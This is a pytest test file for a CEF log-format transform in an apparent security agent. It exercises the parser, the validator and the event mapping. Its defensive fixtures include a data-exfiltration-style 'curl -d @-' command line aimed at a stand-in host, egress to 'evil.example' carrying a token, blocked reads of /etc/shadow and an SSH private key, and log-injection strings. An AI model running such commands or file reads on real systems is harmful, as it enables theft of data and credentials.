"""CEF transform: the strict parser rejects each kind of broken line; every real and hostile event makes a
valid line whose parsed values are exactly the documented mapping (docs/formats/cef.md)."""

from __future__ import annotations

import csv
import ipaddress
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.event import timestamp_to_ms, validate_event
from agent.mapping import MappingContext, map_record, parse_line
from tests.shared_paths import FIXTURES, ROOT, SCHEMAS
from tests.validators.cef import dictionary, header_limits, parse_cef, validate_cef
from transforms.cef import (
    BLOCKED_WITHOUT_GUARD,
    CS6_LABEL_FOR_RESOURCE,
    CUSTOM_LABELS,
    EVENT_CLASSES,
    EXT_MAX,
    GUARD_NAMES,
    HEADER_MAX,
    SEVERITY_TO_CEF,
    CefOptions,
    to_cef,
)

CTX = MappingContext(host_name="dev-laptop", labels={"env": "prod"}, tenant_id="acme-corp",
                     environment="prod")


def fixture_events() -> list[dict]:
    """Every real captured record (file sink, webhook bodies, audit API, the packaged sample), mapped."""
    out = []
    for path in (FIXTURES / "audit-forward.jsonl", ROOT / "agent" / "data" / "sample-audit-forward.jsonl"):
        out += [parse_line(line, context=CTX) for line in path.read_bytes().splitlines() if line.strip()]
    for req in json.loads((FIXTURES / "audit-forward-webhook.requests.json").read_text()):
        out.append(map_record(req["body"], context=CTX))
    for rec in json.loads((FIXTURES / "audit-api.response.json").read_text())["body"]["events"]:
        out.append(map_record(rec, context=CTX))
    return out


FIXTURE_EVENTS = fixture_events()


# ---------------------------------------------------------------------------------------------------
# The expected mapping, written from docs/formats/cef.md independently of transforms/cef.py
# ---------------------------------------------------------------------------------------------------

def clean(value: str, limit: int) -> str:
    """What a consumer must read back: no-escape controls -> space, trimmed, cut to the limit."""
    out = "".join(" " if (ord(c) < 32 and c not in "\r\n") or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029"
                  else c for c in value)
    return out.strip(" ")[:limit].rstrip(" ")


def expected_extension(ev: dict) -> dict[str, str]:
    want: dict[str, str] = {}

    def put(key: str, value, limit: int | None = None) -> None:
        if isinstance(value, str) and clean(value, limit or EXT_MAX[key]):
            want[key] = clean(value, limit or EXT_MAX[key])

    def custom(key: str, label: str, value) -> None:
        if isinstance(value, str) and clean(value, EXT_MAX[key]):
            want[f"{key}Label"] = label
            want[key] = clean(value, EXT_MAX[key])

    d, res = ev["decision"], ev["resource"]
    want["rt"] = str(timestamp_to_ms(ev["timestamp"]))
    put("externalId", ev["event_id"])
    allowed, guard = d.get("allowed"), d.get("guard")
    if allowed is False:
        want["act"] = "blocked"
    elif allowed is True and guard:
        want["act"] = "warned"
    elif allowed is True and ev["event_type"] == "policy_allow":
        want["act"] = "allowed"
    if ev["outcome"] in ("success", "failure"):
        want["outcome"] = ev["outcome"]
    put("cat", f"/Clawdstrike/{ev['event_category']}/{ev['event_type']}")
    put("msg", d.get("reason"))
    put("dvchost", ev["observer"].get("host_name"))
    put("deviceExternalId", ev["observer"].get("instance_id"))
    put("deviceProcessName", ev["observer"]["product"])
    session = ev.get("session", {})
    put("suid", session.get("user_id"))
    put("sproc", ev.get("agent", {}).get("id"))
    if res["type"] == "network":  # URL targets are checked by their own test
        target = res.get("ip") or res.get("host") or res["name"]
        try:
            ip = ipaddress.ip_address(target) if "%" not in target else None
        except ValueError:
            ip = None
        if ip and ip.version == 4:
            want["dst"] = target
        elif ip:
            want["c6a3Label"] = "Destination IPv6 Address"
            want["c6a3"] = ip.compressed
        else:
            put("dhost", target)
        if isinstance(res.get("port"), int):
            want["dpt"] = str(res["port"])
    if res["type"] == "process" and res["name"].split():
        put("dproc", res["name"].split()[0])
    path = res.get("path", res["name"] if res["type"] == "file" else None)
    if path:
        put("filePath", path)
        put("fname", path.rstrip("/\\").replace("\\", "/").rsplit("/", 1)[-1])
    custom("flexString1", "action", ev["action"])
    custom("flexString2", "tenantId", session.get("tenant_id"))
    custom("cs1", "guard", guard)
    custom("cs2", "sessionId", session.get("id"))
    custom("cs3", "policyHash", d.get("policy_hash"))
    mitre = ev.get("mitre") or {}
    for key, label, part in (("cs4", "mitreTechnique", "technique"), ("cs5", "mitreTactic", "tactic")):
        item = mitre.get(part)
        if item:
            custom(key, label, f"{item['id'].strip(' ')} {item['name']}" if item.get("name", "").strip(" ")
                   else item["id"])
    if res["type"] not in ("file", "network", "session"):
        custom("cs6", CS6_LABEL_FOR_RESOURCE.get(res["type"], "resourceName"), res["name"])
    return want


def check(ev: dict, options: CefOptions | None = None) -> tuple[list[str], dict[str, str]]:
    line = to_cef(ev, options)
    assert "\n" not in line and "\r" not in line
    assert validate_cef(line) == []
    header, ext = parse_cef(line)
    assert ext == expected_extension(ev)
    return header, ext


# ---------------------------------------------------------------------------------------------------
# The constants agree with the official data
# ---------------------------------------------------------------------------------------------------

def test_every_key_and_limit_matches_the_dictionary():
    keys = dictionary()
    for key, limit in EXT_MAX.items():
        kd = keys[key]
        assert (kd.data_type, kd.max_length, kd.audience, kd.since) == ("string", limit, "producer", "0.1"), (
            key)
    for key in CUSTOM_LABELS:
        assert keys[f"{key}Label"].audience == "producer"
    labels = [(f"{k}Label", v) for k, v in CUSTOM_LABELS.items()]
    labels += [("cs6Label", v) for v in CS6_LABEL_FOR_RESOURCE.values()]
    for key, label in labels:
        assert len(label) <= keys[key].max_length and label.isprintable() and "=" not in label, key
    names = ("vendor", "product", "version", "signature_id", "name")
    assert [HEADER_MAX[k] for k in names] == header_limits()[1:6]
    assert {"rt", "dst", "c6a3", "dpt"} <= set(keys)
    assert (keys["dst"].data_type, keys["c6a3"].data_type, keys["dpt"].data_type, keys["rt"].data_type) == (
        "ipv4_address", "ipv6_address", "integer", "timestamp")


def test_validator_reads_all_177_keys_in_place():
    with (SCHEMAS / "cef" / "extension-keys.csv").open() as f:
        assert len(list(csv.DictReader(f))) == len(dictionary()) == 177


# ---------------------------------------------------------------------------------------------------
# The strict parser: accepted syntax
# ---------------------------------------------------------------------------------------------------

def test_parser_unescapes_and_splits_like_the_standard():
    header, ext = parse_cef(r"CEF:0|Ven\|dor|Pro\\duct|1.0|sig=1|Na me|5|msg=a\=b c\\d\nx\ry | pipe "
                            r"cs1Label=l cs1=two  spaces")
    assert header == ["CEF:0", "Ven|dor", "Pro\\duct", "1.0", "sig=1", "Na me", "5"]
    assert ext == {"msg": "a=b c\\d\nx\ry | pipe", "cs1Label": "l", "cs1": "two  spaces"}
    assert parse_cef("CEF:0|a|b|c|d|e|1|") == (["CEF:0", "a", "b", "c", "d", "e", "1"], {})


def test_parser_keeps_all_but_the_last_space_before_a_key():
    assert parse_cef("CEF:0|a|b|c|d|e|1|msg=x   rt=1")[1] == {"msg": "x  ", "rt": "1"}


GOOD = "CEF:0|a|b|c|d|e|1|"


@pytest.mark.parametrize(("line", "message"), [
    ("cef:0|a|b|c|d|e|1|", "does not start"),
    ("CEF:0|a|b|c|d|e", "5 pipe-terminated fields"),
    (r"CEF:0|a\=|b|c|d|e|1|", r"invalid escape '\='"),
    (r"CEF:0|a\n|b|c|d|e|1|", r"invalid escape '\n'"),
    (r"CEF:0|a|b|c|d|e\x|1|", r"invalid escape '\x'"),
    (GOOD + r"msg=a\|b", r"invalid escape '\|'"),
    (GOOD + r"msg=a\qb", r"invalid escape '\q'"),
    (GOOD + "msg=ab\\", "invalid escape '\\end of line'"),
    ("CEF:0|a|b|c|d|na|me|1|msg=x", "does not start with a key"),  # raw pipe in the Name
    ("CEF:0|a|b|c|d|e|1|msg=a=b", "unescaped '=' inside a value"),
    ("CEF:0|a|b|c|d|e|1|msg=a b=c", "unknown extension key 'b'"),
    ("CEF:0|a|b|c|d|e|1|msg=x =y", "without a key"),
    (GOOD + "BackbayLabsClawdstrikeGuard=x", "unknown extension key"),
    (GOOD + "msg=x msg=y", "repeated"),
    (GOOD + " msg=x", "does not start with a key"),
    (GOOD + "just text", "no key=value"),
    (GOOD + "msg=line\nbreak", "raw newline"),
    (GOOD + "msg=line\rbreak", "raw newline"),
    ("CEF:0|a|b|c|d|e\n|1|", "raw newline"),
    (GOOD + "msg=nul\x00", "raw control character"),
    (GOOD + "msg=nel\x85", "raw control character"),
    (GOOD + "msg=ls\u2028", "raw control character"),
])
def test_parser_rejects(line, message):
    with pytest.raises(ValueError, match=None) as exc:
        parse_cef(line)
    assert message in str(exc.value)
    assert validate_cef(line) and validate_cef(line)[0].startswith("parse: ")


# ---------------------------------------------------------------------------------------------------
# The validator: dictionary rules
# ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("line", "message"), [
    ("CEF:2|a|b|c|d|e|1|", "expected CEF:0 or CEF:1"),
    ("CEF:0||b|c|d|e|1|", "Device Vendor is empty"),
    ("CEF:0|" + "v" * 64 + "|b|c|d|e|1|", "Device Vendor is 64 characters, max 63"),
    ("CEF:0|a|b|" + "1" * 32 + "|d|e|1|", "Device Version is 32 characters, max 31"),
    ("CEF:0|a|b|c|d|" + "n" * 513 + "|1|", "Name is 513 characters, max 512"),
    ("CEF:0|a|b|c|d|e|11|", "Severity '11'"),
    ("CEF:0|a|b|c|d|e|Severe|", "Severity 'Severe'"),
    (GOOD + "eventId=1", "consumer key"),
    (GOOD + "threatAttackID=T1", "CEF 1.2 key in a CEF:0 line"),
    (GOOD + "dst=2001:db8::1", "IPv4 only"),
    (GOOD + "src=999.1.1.1", "expected an IP address"),
    (GOOD + "src=010.1.1.1", "expected an IP address"),
    (GOOD + "c6a3Label=x c6a3=10.0.0.1", "expected an IPv6 address"),
    (GOOD + "dpt=70000", "outside 0..65535"),
    (GOOD + "dpt=https", "expected an integer"),
    (GOOD + "cn1Label=n cn1=1.5", "expected an integer"),
    (GOOD + "cfp1Label=n cfp1=nan", "expected a number"),
    (GOOD + "rt=2026-11-26T08:00:00Z", "expected epoch milliseconds"),
    (GOOD + "smac=00:11:22:33:44", "expected a MAC address"),
    (GOOD + "externalId=" + "x" * 41, "41 characters, max 40"),
    (GOOD + "dvchost=" + "h" * 101, "101 characters, max 100"),
    (GOOD + "cs1=x", "cs1: present without cs1Label"),
    (GOOD + "cs1Label=x", "cs1Label: present without cs1"),
    (GOOD + "cn2=1", "cn2: present without cn2Label"),
    (GOOD + "c6a3=::1", "c6a3: present without c6a3Label"),
    (GOOD + "msg= x", "leading/trailing spaces"),
    (GOOD + "msg=x ", "leading/trailing spaces"),
    (GOOD + "msg= rt=1", "msg: empty value"),
])
def test_validator_flags(line, message):
    problems = validate_cef(line)
    assert any(message in p for p in problems), problems


@pytest.mark.parametrize("ext", [
    "rt=1795681728548 start=Nov 26 2026 08:00:00.123 UTC end=Nov 26 08:00:00",
    "src=10.0.0.1 c6a2Label=Source IPv6 Address c6a2=2001:db8::1 dmac=00:11:22:33:44:55",
    "cn1Label=n cn1=-9223372036854775808 cfp1Label=f cfp1=1.5e3 dpt=0 spt=65535",
])
def test_validator_accepts_valid_lines(ext):
    assert validate_cef("CEF:0|Backbay Labs|Clawdstrike|0.1.0|x|y|Very-High|" + ext) == []


# ---------------------------------------------------------------------------------------------------
# Real events
# ---------------------------------------------------------------------------------------------------

def test_fixture_events_cover_the_capture():
    assert len(FIXTURE_EVENTS) >= 60
    assert {e["event_type"] for e in FIXTURE_EVENTS} >= {
        "session_start", "policy_allow", "forbidden_path", "secret_detected", "egress_blocked", "guard_block",
        "guard_warn", "patch_rejected", "policy_change"}


@pytest.mark.parametrize("ev", FIXTURE_EVENTS, ids=lambda e: f"{e['event_type']}-{e['event_id'][-6:]}")
def test_fixture_round_trip(ev):
    header, _ = check(ev)
    assert header[:4] == ["CEF:0", "Backbay Labs", "Clawdstrike", "0.1.0"]
    assert header[6] == str(SEVERITY_TO_CEF[ev["decision"]["severity"]])


def test_golden_lines_pin_format_and_key_order():
    by_id = {e["event_id"]: e for e in FIXTURE_EVENTS}
    assert to_cef(by_id["01a216f8-c681-71d3-b6fd-d9381bffc944"]) == (
        "CEF:0|Backbay Labs|Clawdstrike|0.1.0|guard.egress_allowlist.deny|Network egress blocked|8|"
        "rt=1795681732225 externalId=01a216f8-c681-71d3-b6fd-d9381bffc944 act=blocked outcome=failure "
        "cat=/Clawdstrike/network/egress_blocked msg=Egress to 203.0.113.7 blocked by policy "
        "dvchost=dev-laptop deviceProcessName=hushd sproc=agent-007 dst=203.0.113.7 dpt=8080 "
        "flexString1Label=action flexString1=egress flexString2Label=tenantId flexString2=acme-corp "
        "cs1Label=guard cs1=egress_allowlist cs3Label=policyHash "
        "cs3=sha256:989be150824a9c37647fbf29d2231d25ddf40a83e686f930de2a466d36b17f73")
    assert to_cef(by_id["01a216f8-c7f1-7d70-9578-7d52f7905b31"]).split("|", 7)[7].split(" dvchost=")[0] == (
        "rt=1795681732593 externalId=01a216f8-c7f1-7d70-9578-7d52f7905b31 act=blocked outcome=failure "
        r"cat=/Clawdstrike/file/patch_rejected msg=Contains forbidden patterns: (?i)disable[\\s_\\-]?"
        "(security|auth|ssl|tls)")


def test_deterministic_and_independent_of_dict_order():
    for ev in FIXTURE_EVENTS[:25]:
        shuffled = json.loads(json.dumps({k: ev[k] for k in reversed(list(ev))}))
        shuffled["decision"] = {k: ev["decision"][k] for k in reversed(list(ev["decision"]))}
        assert to_cef(ev) == to_cef(ev) == to_cef(shuffled)


# ---------------------------------------------------------------------------------------------------
# Hand-built events: every guard, action, severity, event type and resource shape
# ---------------------------------------------------------------------------------------------------

BASE = {
    "schema_version": "2.0.0",
    "event_id": "0194e1a2-7c3d-7b11-9f00-3c1d2e4f5a01",
    "event_type": "guard_block",
    "event_category": "file",
    "timestamp": "2026-02-07T09:30:12.481516234Z",
    "outcome": "failure",
    "action": "file_access",
    "observer": {"product": "hushd", "host_name": "dev-laptop"},
    "decision": {"allowed": False, "guard": "forbidden_path", "severity": "critical"},
    "resource": {"type": "file", "name": "/etc/shadow", "path": "/etc/shadow"},
    "metadata": {},
    "labels": {},
    "source": {"kind": "hushd_audit"},
}


def event(**changes) -> dict:
    ev = json.loads(json.dumps(BASE))
    for dotted, value in changes.items():
        node = ev
        *parents, last = dotted.split("__")
        for p in parents:
            node = node.setdefault(p, {})
        if value is None:
            node.pop(last, None)
        else:
            node[last] = value
    return ev


@pytest.mark.parametrize("guard", sorted(GUARD_NAMES))
def test_every_known_guard_deny_and_warn(guard):
    header, ext = check(event(decision__guard=guard))
    assert (header[4], header[5], ext["act"], ext["cs1"]) == (f"guard.{guard}.deny", GUARD_NAMES[guard][0],
                                                               "blocked", guard)
    warn = event(decision__guard=guard, decision__allowed=True, outcome="success", event_type="guard_warn",
                 decision__severity="medium")
    header, ext = check(warn)
    assert (header[4], header[5], header[6], ext["act"], ext["outcome"]) == (
        f"guard.{guard}.warn", GUARD_NAMES[guard][1], "5", "warned", "success")


def test_unknown_and_hostile_guard_names_make_a_stable_class_id():
    header, ext = check(event(decision__guard="clawdstrike-virustotal"))
    assert (header[4], header[5]) == ("guard.clawdstrike-virustotal.deny", "Action blocked by guard")
    header, ext = check(event(decision__guard="Secret|Leak \\ x.y=z\n"))
    assert header[4] == "guard.secret_leak___x_y_z_.deny"
    assert ext["cs1"] == "Secret|Leak \\ x.y=z\n"


def test_blocked_without_guard_and_plain_allow():
    header, ext = check(event(decision__guard=None))
    assert (header[4], header[5], ext["act"]) == (*BLOCKED_WITHOUT_GUARD, "blocked")
    assert "cs1" not in ext
    header, ext = check(event(decision__guard=None, decision__allowed=True, outcome="success",
                              event_type="policy_allow", decision__severity="info"))
    assert (header[4], header[5], header[6], ext["act"]) == ("policy.allow", "Action allowed by policy", "1",
                                                             "allowed")


@pytest.mark.parametrize(("severity", "number"), [("info", "1"), ("low", "3"), ("medium", "5"), ("high", "8"),
                                                  ("critical", "10"), ("Severe", "5")])
def test_severity_numbers(severity, number):
    assert check(event(decision__severity=severity))[0][6] == number


@pytest.mark.parametrize("etype", sorted(EVENT_CLASSES))
def test_non_decision_event_types(etype):
    ev = event(event_type=etype, decision__allowed=None, decision__guard=None, outcome="unknown",
               decision__severity="info", resource__type="session", resource__name="hushd",
               resource__path=None)
    header, ext = check(ev)
    assert (header[4], header[5]) == EVENT_CLASSES[etype]
    assert "act" not in ext and "outcome" not in ext
    assert ext["cat"] == f"/Clawdstrike/file/{etype}"


def test_session_and_admin_events_have_no_act():
    header, ext = check(event(event_type="session_start", decision__allowed=True, decision__guard=None,
                              outcome="success", resource__type="session", resource__name="hushd",
                              resource__path=None, session={"id": "s-1"}))
    assert "act" not in ext and ext["cs2"] == "s-1" and "cs6" not in ext
    header, _ = check(event(event_type="future_type", decision__allowed=None, decision__guard=None))
    assert (header[4], header[5]) == ("event.future_type", "Clawdstrike event")


@pytest.mark.parametrize(("host", "ip", "port", "keys"), [
    ("evil.example", None, 443, {"dhost": "evil.example", "dpt": "443"}),
    ("203.0.113.7", "203.0.113.7", 8080, {"dst": "203.0.113.7", "dpt": "8080"}),
    ("2001:db8::1", "2001:db8::1", None, {"c6a3Label": "Destination IPv6 Address", "c6a3": "2001:db8::1"}),
    ("999.1.1.1", None, None, {"dhost": "999.1.1.1"}),
    ("https://evil.example:8443/up?token=abc", None, None,
     {"request": "https://evil.example:8443/up?token=abc", "dhost": "evil.example", "dpt": "8443"}),
    ("http://[2001:db8::2]/x", None, 80,
     {"request": "http://[2001:db8::2]/x", "c6a3": "2001:db8::2", "dpt": "80"}),
])
def test_network_destination_keys_respect_ipv4_only(host, ip, port, keys):
    res = {"type": "network", "name": host, "host": host}
    if ip:
        res["ip"] = ip
    if port is not None:
        res["port"] = port
    ev = event(resource=res, action="egress", event_category="network")
    line = to_cef(ev)
    assert validate_cef(line) == []
    _, ext = parse_cef(line)
    for key, value in keys.items():
        assert ext[key] == value
    assert not ({"dst", "dhost", "c6a3"} - set(keys)) & set(ext)
    if "://" not in host:
        assert ext == expected_extension(ev)


def test_process_tool_prompt_and_identity_resources():
    cmd = "  curl -d @- https://x.example"
    _, ext = check(event(resource={"type": "process", "name": cmd}, action="shell", event_category="process"))
    assert (ext["dproc"], ext["cs6Label"], ext["cs6"]) == ("curl", "commandLine", cmd.strip())
    _, ext = check(event(resource={"type": "tool", "name": "shell_exec"}, action="mcp_tool"))
    assert (ext["cs6Label"], ext["cs6"]) == ("toolName", "shell_exec")
    _, ext = check(event(resource={"type": "prompt", "name": "injection"}, action="prompt_security"))
    assert (ext["cs6Label"], ext["cs6"]) == ("detector", "injection")
    _, ext = check(event(resource={"type": "identity", "name": "role:admin"}, action="rbac",
                         session={"user_id": "okta|00u1"}, agent={"id": "agent-1"}))
    assert (ext["cs6Label"], ext["suid"], ext["sproc"]) == ("identityTarget", "okta|00u1", "agent-1")
    _, ext = check(event(resource={"type": "file", "name": "C:\\Users\\a\\.ssh\\id_rsa"}))
    assert (ext["filePath"], ext["fname"]) == ("C:\\Users\\a\\.ssh\\id_rsa", "id_rsa")


@pytest.mark.parametrize(("mitre", "technique", "tactic"), [
    ({"framework": "attack", "tactic": {"id": "TA0006", "name": "Credential Access"},
      "technique": {"id": "T1552.001", "name": "Unsecured Credentials: Credentials In Files"}},
     "T1552.001 Unsecured Credentials: Credentials In Files", "TA0006 Credential Access"),
    ({"framework": "atlas", "tactic": {"id": "AML.TA0005", "name": "Execution"},
      "technique": {"id": "AML.T0051", "name": "LLM Prompt Injection"}},
     "AML.T0051 LLM Prompt Injection", "AML.TA0005 Execution"),
    ({"framework": "attack", "technique": {"id": "T1048"}}, "T1048", None),
])
def test_mitre_enrichment(mitre, technique, tactic):
    _, ext = check(event(mitre=mitre))
    assert (ext["cs4Label"], ext["cs4"]) == ("mitreTechnique", technique)
    assert ext.get("cs5") == tactic
    assert ext["cs4"].split(" ", 1)[0] == mitre["technique"]["id"]


@pytest.mark.parametrize("mitre", [
    {"framework": "other", "technique": {"id": "X1"}}, {"tactic": {"id": "TA0001"}},
    {"framework": "attack", "tactic": "TA0001", "technique": ["T1"]}, {"tactic": {"id": {"x": 1}}},
    {"technique": {"id": "  ", "name": "blank id"}}, {}, "T1552", ["T1552"],
])
def test_malformed_mitre_is_skipped_not_fatal(mitre):
    line = to_cef(event(mitre=mitre))
    assert validate_cef(line) == []
    _, ext = parse_cef(line)
    assert ext.get("cs4") in (None, "X1") and ext.get("cs5") in (None, "TA0001")


def test_other_record_shapes_map_to_valid_lines():
    ctx = MappingContext(host_name="h")
    records = [
        {"event": "violation.detected", "timestamp": "2026-02-07T09:30:12Z",
         "data": {"actionType": "egress", "target": "[2001:db8::7]:443", "guard": "egress_allowlist",
                  "severity": "high", "sessionId": "s1", "agentId": "a1"}},
        {"id": "evt-1", "timestamp": 1770456612481, "type": "network_egress", "resource": "10.1.2.3:22",
         "decision": "denied", "guard": "egress_allowlist", "reason": "nope", "runId": "r1"},
        {"id": "ad-1", "type": "prompt_security_jailbreak", "timestamp": "2026-02-07T09:30:12.5Z",
         "contextId": "c1", "sessionId": "s1", "decision": {"allowed": False, "denied": True, "warn": False,
                                                           "guard": "jailbreak_detection"}},
        {"id": "ad-2", "type": "tool_call_start", "timestamp": "2026-02-07T09:30:12.5Z", "contextId": "c1",
         "sessionId": "s1", "toolName": "read_file"},
    ]
    for rec in records:
        ev = map_record(rec, context=ctx)
        validate_event(ev)
        check(ev)


# ---------------------------------------------------------------------------------------------------
# Hostile strings and truncation
# ---------------------------------------------------------------------------------------------------

HOSTILE = [
    "a|b|c", "k=v x=y", "back\\slash\\", "\\=\\|\\n", "line1\nline2\r\nline3\r", " padded  ",
    "日本語 ✓ émoji 🛡",
    "tab\there\x00nul\x1besc\x7fdel\x85nel\u2028ls", "=", "\\", "|", "trailing\\", "msg=injected rt=0",
]


@pytest.mark.parametrize("s", HOSTILE)
def test_hostile_strings_everywhere(s):
    ev = event(
        decision={"allowed": False, "guard": s, "severity": "high", "reason": s, "policy_hash": s,
                  "ruleset": s},
        resource={"type": "process", "name": s + " arg", "path": "/tmp/" + s},
        observer={"product": "hushd", "host_name": s, "instance_id": s},
        session={"id": s, "user_id": s, "tenant_id": s}, agent={"id": s}, action=s, event_type=s,
        event_category=s, mitre={"framework": "attack", "technique": {"id": "T1", "name": s},
                                 "tactic": {"id": "TA1", "name": s}},
    )
    header, _ = check(ev, CefOptions(device_vendor=s.strip() or "v", device_product="P|\\", device_version=s))
    assert header[2] == "P|\\"
    assert "\n" not in "".join(header) and "\r" not in "".join(header)


def test_ten_thousand_character_values_are_truncated_at_the_limits():
    long = ("a=b\\c|" * 2000)[:10_000]
    ev = event(decision__reason=long, observer__host_name=long, event_id=long,
               resource={"type": "tool", "name": long}, decision__guard=long)
    header, ext = check(ev, CefOptions(device_vendor=long, device_version=long))
    assert len(ext["msg"]) == 1023 and ext["msg"] == long[:1023]
    assert len(ext["dvchost"]) == 100 and ext["dvchost"] == long[:100]
    assert len(ext["externalId"]) == 40 and ext["cs6"] == long[:4000] and ext["cs1"] == long[:4000]
    assert header[1] == long[:63] and header[3] == long[:31]
    assert len(header[4]) <= 1023


@pytest.mark.parametrize("cut", ["\\", "=", "\n", "\r"])
def test_truncation_never_splits_an_escape(cut):
    value = "x" * 1022 + cut + "tail"
    _, ext = check(event(decision__reason=value))
    assert ext["msg"] == value[:1023]


def test_options_are_validated_and_escaped():
    for bad in (" ", "\x00\n", 7):
        with pytest.raises(ValueError, match="device_vendor"):
            CefOptions(device_vendor=bad)
    options = CefOptions(device_vendor="Back|bay\\Labs", device_product="C", device_version="9")
    header, _ = check(BASE, options)
    assert header[1:4] == ["Back|bay\\Labs", "C", "9"]
    assert to_cef(BASE).startswith("CEF:0|Backbay Labs|Clawdstrike|0.1.0|guard.forbidden_path.deny|")


# ---------------------------------------------------------------------------------------------------
# Property test: arbitrary events stay valid and round-trip
# ---------------------------------------------------------------------------------------------------

text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=60) | st.sampled_from(
    HOSTILE)
opt_text = st.none() | text.filter(bool)


@st.composite
def events(draw) -> dict:
    rtype = draw(st.sampled_from(["file", "network", "process", "tool", "configuration", "session",
                                  "identity", "prompt", "output"]))
    allowed = draw(st.none() | st.booleans())
    ev = event(
        event_id=draw(text.filter(bool)), event_type=draw(st.sampled_from(sorted(EVENT_CLASSES)) | text),
        event_category=draw(text), action=draw(text), outcome=draw(st.sampled_from(["success", "failure",
                                                                                    "unknown"])),
        timestamp=draw(st.sampled_from(["2026-02-07T09:30:12Z", "2026-11-26T08:28:48.548186700Z",
                                        "1999-12-31T23:59:60.999Z"])),
        decision={k: v for k, v in {"allowed": allowed, "guard": draw(opt_text), "reason": draw(opt_text),
                                    "severity": draw(st.sampled_from(sorted(SEVERITY_TO_CEF))),
                                    "policy_hash": draw(opt_text)}.items() if v is not None},
        resource={k: v for k, v in {"type": rtype, "name": draw(text.filter(bool)), "path": draw(opt_text),
                                    "port": draw(st.none() | st.integers(0, 65535))}.items()
                  if v is not None},
        observer={k: v for k, v in {"product": "hushd", "host_name": draw(opt_text),
                                    "instance_id": draw(opt_text)}.items() if v is not None},
        session={k: v for k, v in {"id": draw(opt_text), "user_id": draw(opt_text),
                                   "tenant_id": draw(opt_text)}.items() if v is not None},
    )
    if rtype == "network":
        ev["resource"]["host"] = draw(st.sampled_from(["evil.example", "10.0.0.1", "fe80::1", "h|o=s\\t"])
                                      | text.filter(bool))
    return ev


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(events())
def test_property_arbitrary_events_stay_valid(ev):
    line = to_cef(ev)
    assert validate_cef(line) == []
    _, ext = parse_cef(line)
    want = expected_extension(ev) if "://" not in str(ev["resource"].get("host", "")) else None
    if want is not None:
        assert ext == want
    assert to_cef(ev) == line
